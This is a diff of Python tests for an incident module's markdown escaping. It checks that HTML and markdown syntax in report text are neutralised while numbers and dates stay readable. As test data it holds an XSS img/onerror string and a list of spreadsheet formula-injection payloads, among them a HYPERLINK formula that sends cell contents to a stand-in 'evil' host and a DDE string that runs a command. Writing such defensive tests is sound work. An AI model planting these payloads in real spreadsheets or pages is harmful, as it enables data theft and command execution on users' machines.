@@ -349,12 +349,15 @@ def test_markdown_report_escapes_names_and_text(tmp_path: Path) -> None:
     assert fences and all(len(f) >= 3 for f in fences)
     outside = re.sub(r"^(`{3,})\n.*?^\1$", "", report, flags=re.MULTILINE | re.DOTALL)  # code blocks show text
     assert "<img" not in outside and "<b>" not in outside and "<script" not in outside
-    assert "&lt;img src=x onerror=alert\\(1\\)&gt;" in report
+    assert "&lt;img src=x onerror=alert(1)&gt;" in report
 
 
 def test_markdown_escape_keeps_text_readable() -> None:
-    assert incident.md_escape("# [x](y) |a| `c` 1.5") == "\\# \\[x\\]\\(y\\) \\|a\\| \\`c\\` 1.5"
+    assert incident.md_escape("# [x](y) |a| `c` 1.5") == "\\# \\[x\\](y) \\|a\\| \\`c\\` 1.5"
     assert incident.md_escape("1. item") == "1\\. item"
+    # numbers, dates and parentheses that open no block and no link stay as they are
+    assert [incident.md_escape(t) for t in ("0.75", "2026-01-15", "1.01.22E", "skew (s)")] == [
+        "0.75", "2026-01-15", "1.01.22E", "skew (s)"]
 
 
 INJECTIONS = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
